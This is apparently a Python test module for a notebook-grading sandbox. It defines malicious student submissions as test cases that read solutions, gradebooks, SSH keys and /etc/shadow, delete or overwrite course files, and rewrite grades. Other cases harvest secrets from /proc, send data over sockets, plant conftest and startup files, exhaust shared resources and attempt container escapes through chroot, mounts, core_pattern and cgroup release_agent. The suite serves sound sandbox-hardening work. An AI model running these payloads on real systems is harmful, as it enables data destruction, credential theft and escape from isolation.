"""Attacks that reach for what is not theirs: files, secrets, other programs, the network.

Each pays: the answer to Q1 is right only if something was reached.
"""

from __future__ import annotations

from tests.submissions.cases import case
from tests.submissions.drafts import ANSWERS, Draft, code_cell
from tests.submissions.tricks import ENDED, EVERYWHERE, PORT, SECRET, rewarded

__all__: list[str] = []

# The course is in a folder of that name; were there no box, nothing else should be spoilt.
SPOIL = """
import os
for path in everywhere(".ipynb", "gradebook.db", "nbgrader_config.py"):
    if "/course/" not in os.path.realpath(path):
        continue
    try:
        {deed}
        reached = path
    except OSError:
        pass
"""


def rewarded_search(draft: Draft, deed: str) -> None:
    """Do something to every file of the course or the home that can be found."""
    draft.write("q1-answer", EVERYWHERE + "\n\n" + rewarded(SPOIL.format(deed=deed)))


@case(status=ENDED, lost="q1")
def reads_solutions_and_gradebook(draft: Draft) -> None:
    """Reads whatever it finds of the course: solutions, hidden tests, grades, submissions."""
    rewarded_search(draft, "open(path, 'rb').read()")


@case(status=ENDED, lost="q1")
def writes_over_the_course(draft: Draft) -> None:
    """Writes over the gradebook, the sources and the submissions of others."""
    rewarded_search(draft, "open(path, 'r+b').write(b'spoilt')")


@case(status=ENDED, lost="q1")
def deletes_the_course(draft: Draft) -> None:
    """Deletes every file of the course, and what is above its own folder."""
    rewarded_search(draft, "os.chmod(path, 0o777) or os.unlink(path)")
    draft.insert(
        "q2-text",
        code_cell("import shutil\nshutil.rmtree('..', ignore_errors=True)"),
    )


@case(status=ENDED, lost="q1")
def raises_its_points_in_the_gradebook(draft: Draft) -> None:
    """Looks for the database, gives itself points, takes others' and then keeps it locked."""
    rewarded_search(
        draft,
        "import sqlite3; book = sqlite3.connect(f'file:{path}?mode=rw', uri=True, timeout=1); "
        "book.execute('UPDATE grade SET auto_score = 0'); book.commit(); "
        "book.execute('BEGIN EXCLUSIVE')",
    )


@case(status="graded", lost="q1")
def reads_the_home_and_keys(draft: Draft) -> None:
    """Reads the home of whoever grades, keys and the list of passwords."""
    draft.write(
        "q1-answer",
        rewarded(
            """
import glob, os, pwd
homes = {entry.pw_dir for entry in pwd.getpwall()} | {"/root", "/tmp/learner", "/home"}
names = [f"{home}/{name}" for home in homes for name in ("secret", ".ssh/id_rsa", ".netrc")]
for name in [*names, "/etc/shadow", *glob.glob("/home/*/*"), *glob.glob("/tmp/learner/*")]:
    try:
        if open(name, "rb").read():
            reached = name
    except OSError:
        pass
"""
        ),
    )


@case(status="graded", lost="q1")
def reads_the_environment(draft: Draft) -> None:
    """Looks for a secret in its own environment and in that of all processes that it sees."""
    draft.write(
        "q1-answer",
        rewarded(
            f"""
import os
for pid in ["self", *(name for name in os.listdir("/proc") if name.isdigit())]:
    for part in ("environ", "cmdline", "task/" + pid + "/environ"):
        try:
            if b"{SECRET}" in open("/proc/" + pid + "/" + part, "rb").read():
                reached = pid
        except OSError:
            pass
reached = reached or os.environ.get("{SECRET}")
"""
        ),
    )


@case(status="graded", lost="q1")
def calls_over_the_network(draft: Draft) -> None:
    """Calls the loopback, the world, and sockets without a place in any folder."""
    draft.write(
        "q1-answer",
        rewarded(
            f"""
import socket
def call(kind, *address):
    global reached
    try:
        with socket.socket(kind) as calling:
            calling.settimeout(0.3)
            calling.connect(address if len(address) > 1 else address[0])
            calling.sendall(b"stolen")
            reached = address
    except OSError:
        pass
for host in ("127.0.0.1", "0.0.0.0", "10.0.2.2", "192.0.2.1"):
    call(socket.AF_INET, host, {PORT})
call(socket.AF_INET6, "::1", {PORT})
call(socket.AF_UNIX, b"\\0lessonkit-test")
"""
        ),
    )


@case(status="graded", lost="q1")
def writes_into_all_descriptors(draft: Draft) -> None:
    """Uses descriptors that it inherited: of its own, and of all processes that it sees."""
    draft.write(
        "q1-answer",
        rewarded(
            """
import os
for pid in ["self", *(name for name in os.listdir("/proc") if name.isdigit())]:
    try:
        descriptors = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for name in descriptors:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{name}")
            if target.startswith("/") and not target.startswith(("/dev", "/proc", os.getcwd())):
                file = os.open(f"/proc/{pid}/fd/{name}", os.O_RDWR | os.O_NONBLOCK)
                reached = target if os.write(file, b"spoilt") else reached
        except OSError:
            pass
for number in range(3, 256):
    try:
        os.write(number, b"\\0" * 100 + b'{"points": 12}\\n')
    except OSError:
        pass
"""
        ),
    )


@case(status="graded", lost="q1")
def climbs_out_of_the_box(draft: Draft) -> None:
    """Tries what containers were left by: other roots, mounts, namespaces, devices, groups."""
    draft.write(
        "q1-answer",
        rewarded(
            """
import ctypes, glob, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
places = [f"/proc/{n}/root" "/tmp/learner" for n in os.listdir("/proc") if n.isdigit()]
def look():
    try:
        for _ in range(3):
            os.chroot(".")
        for _ in range(30):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    return [place for place in [*places, "/tmp/learner/secret"] if os.path.exists(place)]
if os.fork() == 0:
    libc.unshare(0x10000000 | 0x00020000)
    for kind in (b"proc", b"sysfs", b"cgroup", b"tmpfs", b"overlay"):
        libc.mount(b"none", b"/mnt", kind, 0, None)
    libc.umount2(b"/", 2)
    look()
    os._exit(0)
os.wait()
for number, name in ((1, 1), (8, 0), (8, 1)):
    try:
        os.mknod(f"node{number}", 0o60666, os.makedev(number, name))
        reached = "node"
    except OSError:
        pass
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/1/oom_score_adj"):
    try:
        open(path, "w").write("0")
        reached = path
    except OSError:
        pass
for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True):
    try:
        open(path, "w").write("/tmp/x")
        reached = path
    except OSError:
        pass
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["nsenter", "-t", "1", "-m"]):
    try:
        done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=1)
        if b"uid=0(root)" in done.stdout and command[0] in ("su", "sudo"):
            reached = command
    except (OSError, subprocess.SubprocessError):
        pass
reached = reached or look()
"""
        ),
    )


@case(status="graded")
def leaves_links_behind(draft: Draft) -> None:
    """Leaves links, pipes and programs in its folder, for whoever copies that folder."""
    draft.write(
        "q1-answer",
        ANSWERS["q1-answer"]
        + """

import os
for name in ("gradebook.db", "feedback.html", "proc.html", "timestamp.txt", "data.csv"):
    os.symlink("/tmp/learner/course/gradebook.db", name)
os.rename("proc.ipynb", "old") if os.path.exists("proc.ipynb") else None
os.symlink("../../../../source/proc/proc.ipynb", "proc.ipynb")
os.mkfifo("pipe.ipynb")
for name in ("sitecustomize.py", "nbgrader_config.py", "conftest.py"):
    open(name, "w").write("open('/tmp/planted', 'w')")
os.makedirs(os.path.expanduser("~/.ipython/profile_default/startup"), exist_ok=True)
open(os.path.expanduser("~/.ipython/profile_default/startup/00.py"), "w").write("1 / 0")
os.chmod(".", 0)
""",
    )


@case(status="graded")
def spends_what_all_share(draft: Draft) -> None:
    """Changes what belongs to the machine: priorities, keys, queues, watches, the clock."""
    draft.write(
        "q1-answer",
        ANSWERS["q1-answer"]
        + """

import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
for number in range(200):
    libc.inotify_init1(0)
    libc.msgget(4711 + number, 0o1666)
    libc.syscall(248, b"user", b"k%d" % number, b"x" * 100, 100, -4)
for attempt in (
    lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
    lambda: os.setpriority(os.PRIO_USER, 0, -20),
    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
    lambda: os.kill(-os.getpgrp(), 0),
):
    try:
        attempt()
    except OSError:
        pass
""",
    )
